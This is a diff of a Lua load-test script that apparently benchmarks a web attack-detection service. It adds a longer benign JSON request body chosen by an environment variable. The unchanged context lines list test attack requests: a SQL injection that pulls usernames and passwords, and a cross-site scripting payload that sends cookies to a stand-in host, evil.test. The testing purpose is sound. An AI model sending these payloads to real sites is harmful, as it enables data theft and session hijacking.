@@ -5,6 +5,22 @@ local fill = string.rep("lorem ipsum dolor sit amet ", 36)
 local benign = '{"user":{"id":4711,"name":"Alice Example","email":"alice@example.com"},' ..
                '"items":[{"sku":"B-100","qty":2},{"sku":"C-220","qty":1}],"note":"' .. fill .. '"}'
 benign = benign .. string.rep(" ", 1024 - #benign)
+-- With BODY_SHAPE=fields, the benign body is an order of 40 short values instead (993 bytes, the
+-- detection replay's benign request): detection's work per value repeats, so it costs the node
+-- almost three times the instructions of the body above, which is one long value of prose.
+if os.getenv("BODY_SHAPE") == "fields" then
+  benign = '{"user":{"id":12345,"name":"Alice Example","email":"alice@example.com","roles":["admin","developer"],' ..
+    '"address":{"street":"12 Long Street","city":"Berlin","zip":"10115","country":"DE"}},' ..
+    '"order":{"id":"ord_8f7d6c5b4a","created":"2024-05-01T12:34:56Z","items":[{"sku":"A-100","name":' ..
+    '"Blue widget","qty":2,"price":19.99},{"sku":"B-200","name":"Red gadget, large","qty":1,"price":49.5},' ..
+    '{"sku":"C-300","name":"Green thing","qty":5,"price":3.25}],"note":"Please deliver after 5pm. ' ..
+    'Ring the bell twice.","coupon":"SPRING-2024","total":105.74},"meta":{"client":"web","version":' ..
+    '"3.14.1","locale":"en-US","tz":"Europe/Berlin","ref":"https://shop.example.com/cart?step=2"},' ..
+    '"tracking":{"session":"d41d8cd98f00b204e9800998ecf8427e","campaign":"newsletter_may","source":' ..
+    '"email","referrer":"https://www.example.org/blog/2024/05/spring-sale?utm_medium=email"},"flags":{"gift"' ..
+    ':false,"express":true,"newsletter":true},"comment":"Second order this month; the first one arrived on ' ..
+    'time and in good shape. Thanks!"}'
+end
 local attacks = {
   {"/api/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", benign},
   {"/api/comments", '{"comment":"<script>fetch(\\"//evil.test/\\"+document.cookie)</script>"}'},
